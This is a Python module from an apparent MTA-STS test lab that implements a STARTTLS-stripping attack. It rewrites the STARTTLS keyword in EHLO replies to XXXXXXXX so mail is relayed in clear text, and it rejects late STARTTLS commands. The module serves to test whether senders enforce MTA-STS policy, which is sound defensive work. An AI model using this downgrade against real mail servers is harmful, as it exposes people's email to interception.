"""mask_starttls: the offer of STARTTLS is overwritten with XXXXXXXX.

On the wire: in every reply to EHLO the word STARTTLS becomes XXXXXXXX, octet for octet, as some firewalls with "SMTP
inspection" do; nothing changes its length, so it works on single packets. Everything else passes untouched, in clear
text, and is read. A STARTTLS sent all the same (such a sender knows the trick) is answered with 502: the firewalls
overwrite the command as well, which draws the same answer from the host.

What it proves: the same as `strip_starttls`, against senders that count lines or look for STARTTLS by its place.

A careful sender that holds an enforce policy keeps the message (RFC 8461, section 5); under testing it delivers and
reports `starttls-not-supported` (RFC 8460, section 4.3.1).
"""

from __future__ import annotations

from collections.abc import Iterator

from mta_sts_lab.attacks.attack import Parameters, SmtpAttack
from mta_sts_lab.attacks.clear_text import offers_starttls, relay_in_clear
from mta_sts_lab.attacks.edits import Line, untouched
from mta_sts_lab.attacks.instructions import Script
from mta_sts_lab.attacks.session import Session
from mta_sts_lab.attacks.smtp import Reply, keyword
from mta_sts_lab.model import AttackForm

_MASK = "X" * len("STARTTLS")


def mask_starttls(genuine: Reply) -> Iterator[Line]:
    """Overwrite the keyword wherever it is offered."""
    if not offers_starttls(genuine):
        yield from untouched(genuine)
        return
    yield Line(genuine.lines[0])
    for line in genuine.lines[1:]:
        if keyword(line) == "STARTTLS":
            yield Line(line[:4] + _MASK + line[4 + len(_MASK) :], altered=True, instead_of=line)
        else:
            yield Line(line)


def play(session: Session, parameters: Parameters) -> Script:
    """Relay with the offer masked."""
    yield from relay_in_clear(session, mask_starttls, f"overwrote STARTTLS with {_MASK} in the reply to EHLO")


ATTACK = SmtpAttack(
    AttackForm("mask_starttls", "smtp", f"overwrites STARTTLS with {_MASK} in the reply to EHLO"),
    play,
)
